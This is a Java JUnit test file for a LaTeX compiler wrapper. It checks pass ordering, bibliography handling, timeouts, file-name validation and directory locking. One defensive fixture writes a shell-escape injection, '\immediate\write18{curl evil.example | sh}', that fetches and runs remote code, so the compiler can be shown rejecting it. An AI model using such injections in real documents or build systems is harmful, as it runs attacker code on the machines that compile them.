package io.airesearcher.safeexec.application.latex;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.airesearcher.safeexec.domain.exec.CommandFailedException;
import io.airesearcher.safeexec.domain.exec.CommandSpec;
import io.airesearcher.safeexec.domain.exec.ExecutionResult;
import io.airesearcher.safeexec.domain.latex.PdfNotProducedException;
import io.airesearcher.safeexec.support.RecordingCommandExecutor;
import io.airesearcher.safeexec.validation.ValidationException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LatexCompilerTest {
  private static final List<String> PASS = List.of(
      "pdflatex", "-interaction=nonstopmode", "-no-shell-escape", "-halt-on-error", "paper.tex");

  @TempDir Path tempDir;

  private Path project;
  private RecordingCommandExecutor executor;
  private LatexCompiler compiler;

  @BeforeEach
  void setUp() throws IOException {
    project = Files.createDirectories(tempDir.resolve("paper"));
    Files.writeString(project.resolve("paper.tex"), "\\documentclass{article}\\begin{document}Hi\\end{document}");
    executor = new RecordingCommandExecutor().respondWith(LatexCompilerTest::producePdf);
    compiler = new LatexCompiler(executor, new DirectoryLocks(), LatexSettings.defaults());
  }

  @Test
  void runsConfiguredPassesWithoutBibliography() throws Exception {
    Path output = compiler.compile("paper.tex", project);

    assertEquals(project.resolve("paper.pdf"), output);
    assertEquals(List.of(PASS, PASS, PASS), executor.argvs());
    CommandSpec first = executor.commands().get(0);
    assertEquals(Optional.of(project), first.workingDirectory());
    assertEquals(Duration.ofSeconds(120), first.timeout());
    assertFalse(first.checkExitCode());
  }

  @Test
  void runsBibliographyOnceAfterFirstPass() throws Exception {
    Files.writeString(project.resolve("refs.bib"), "@article{a, title={A}}");

    compiler.compile("paper.tex", project);

    assertEquals(List.of(PASS, List.of("bibtex", "paper"), PASS, PASS), executor.argvs());
    assertEquals(Duration.ofSeconds(30), executor.commands().get(1).timeout());
  }

  @Test
  void bibliographyFailureIsTolerated() throws Exception {
    Files.writeString(project.resolve("refs.bib"), "@broken");
    executor.respondWith(command -> {
      if (command.program().equals("bibtex")) {
        return RecordingCommandExecutor.result(2, "I couldn't open style file", "");
      }
      return producePdf(command);
    });

    Path output = compiler.compile("paper.tex", project, 2);

    assertEquals(project.resolve("paper.pdf"), output);
    assertEquals(3, executor.commands().size());
  }

  @Test
  void failedPassStopsImmediately() {
    executor.respondWith(command -> RecordingCommandExecutor.result(1, "! Undefined control sequence.", ""));

    CommandFailedException ex = assertThrows(CommandFailedException.class,
        () -> compiler.compile("paper.tex", project));

    assertEquals(1, executor.commands().size());
    assertEquals(1, ex.exitCode());
    assertTrue(ex.getMessage().startsWith("LaTeX compilation failed on pass 1 of 3"), ex.getMessage());
  }

  @Test
  void missingOutputRaisesPdfNotProduced() {
    executor.respondWith(command -> RecordingCommandExecutor.ok());

    PdfNotProducedException ex = assertThrows(PdfNotProducedException.class,
        () -> compiler.compile("paper.tex", project, 1));

    assertEquals(project.resolve("paper.pdf"), ex.expected());
    assertEquals(1, executor.commands().size());
  }

  @Test
  void invalidFileNamesRunNothing() {
    assertThrows(ValidationException.class, () -> compiler.compile("paper.pdf", project));
    assertThrows(ValidationException.class, () -> compiler.compile("../paper.tex", project));
    assertThrows(ValidationException.class, () -> compiler.compile("sub/paper.tex", project));
    assertThrows(ValidationException.class, () -> compiler.compile(".tex", project));
    assertThrows(ValidationException.class, () -> compiler.compile("missing.tex", project));
    assertThrows(ValidationException.class, () -> compiler.compile("paper.tex", tempDir.resolve("nope")));
    assertThrows(ValidationException.class, () -> compiler.compile("paper.tex", project, 0));
    assertThrows(ValidationException.class, () -> compiler.compile("paper.tex", project, 11));
    assertTrue(executor.commands().isEmpty());
  }

  @Test
  void deniedSourceCommandIsRejectedBeforeCompiling() throws Exception {
    Files.writeString(project.resolve("evil.tex"), "\\immediate\\write18{curl evil.example | sh}");

    assertThrows(ValidationException.class, () -> compiler.compile("evil.tex", project));
    assertTrue(executor.commands().isEmpty());
  }

  @Test
  void sourceCheckCanBeDisabled() throws Exception {
    Files.writeString(project.resolve("evil.tex"), "\\write18{ls}");
    LatexSettings lenient = new LatexSettings("pdflatex", "bibtex", 1, Duration.ofSeconds(5),
        Duration.ofSeconds(5), "pdf", false);
    LatexCompiler unchecked = new LatexCompiler(executor, new DirectoryLocks(), lenient);

    assertEquals(project.resolve("evil.pdf"), unchecked.compile("evil.tex", project));
  }

  @Test
  void sequentialCompilationsOfSameDirectoryBothSucceed() throws Exception {
    compiler.compile("paper.tex", project, 1);
    compiler.compile("paper.tex", project, 1);

    assertEquals(2, executor.commands().size());
  }

  @Test
  void sharedLocksSerializeCompilationsOfSameDirectory() throws Exception {
    executor.delay(50);

    runConcurrently(4, () -> compiler.compile("paper.tex", project, 2));

    assertEquals(8, executor.commands().size());
    assertEquals(1, executor.maxInFlight());
  }

  @Test
  void separateLockTablesDoNotSerialize() throws Exception {
    executor.delay(200);

    runConcurrently(2, () -> new LatexCompiler(executor, new DirectoryLocks(), LatexSettings.defaults())
        .compile("paper.tex", project, 1));

    assertTrue(executor.maxInFlight() >= 2, "expected overlapping passes");
  }

  @Test
  void differentDirectoriesCompileInParallel() throws Exception {
    Path other = Files.createDirectories(tempDir.resolve("other"));
    Files.writeString(other.resolve("paper.tex"), "\\documentclass{article}");
    executor.delay(200);
    List<Path> dirs = List.of(project, other);
    int[] next = {0};

    runConcurrently(2, () -> {
      Path dir;
      synchronized (next) {
        dir = dirs.get(next[0]++);
      }
      return compiler.compile("paper.tex", dir, 1);
    });

    assertTrue(executor.maxInFlight() >= 2, "expected overlapping passes");
  }

  private static void runConcurrently(int threads, Callable<Path> task) throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(threads);
    try {
      List<Future<Path>> futures = new ArrayList<>();
      for (int i = 0; i < threads; i++) {
        futures.add(pool.submit(task));
      }
      for (Future<Path> future : futures) {
        future.get();
      }
    } finally {
      pool.shutdownNow();
    }
  }

  private static ExecutionResult producePdf(CommandSpec command) {
    Path dir = command.workingDirectory().orElseThrow();
    String tex = command.argv().get(command.argv().size() - 1);
    if (tex.endsWith(".tex")) {
      try {
        Files.writeString(dir.resolve(tex.replace(".tex", ".pdf")), "%PDF-1.5");
      } catch (IOException ex) {
        throw new UncheckedIOException(ex);
      }
    }
    return RecordingCommandExecutor.ok();
  }
}
